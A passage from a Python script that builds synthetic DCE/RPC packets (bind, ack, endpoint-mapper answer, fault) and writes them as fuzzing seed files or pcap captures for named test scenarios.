              struct.pack("<B3xHH", 1, 0, 0) + NDR)
    answer = pdu(2, 2, struct.pack("<IHH", 200, 0, 0) + HANDLE + struct.pack("<IIIII", 1, 4, 0, 1, 3) +
                 tower(SVCCTL, 49670, "10.0.0.1") + bytes(4))
    ask = pdu(0, 2, struct.pack("<IHH", 4, 0, 3) + bytes(4))
    for name, blob in (("turns", bytes([2, len(bind)]) + bind + ack + ask + answer), ("answers", b"\1\0" + ack + answer),
                       ("greeting", b"\1\0ncacn_http/1.0" + ack), ("fault", b"\1\0" + ack + pdu(3, 2, bytes(16)))):
        with open(os.path.join(folder, name), "wb") as out:
            out.write(blob)


def main():
    if len(sys.argv) == 3 and sys.argv[1] == "--seeds":
        return write_seeds(sys.argv[2])
    if len(sys.argv) != 3 or sys.argv[1] not in SCENARIOS:
        sys.exit("usage: rpc_exchange.py SCENARIO OUT.pcap | --seeds DIR; scenarios: " + " ".join(sorted(SCENARIOS)))
    capture = Capture(sys.argv[2])
    SCENARIOS[sys.argv[1]](capture)
    capture.writer.stream.close()
    return None


if __name__ == "__main__":
    main()
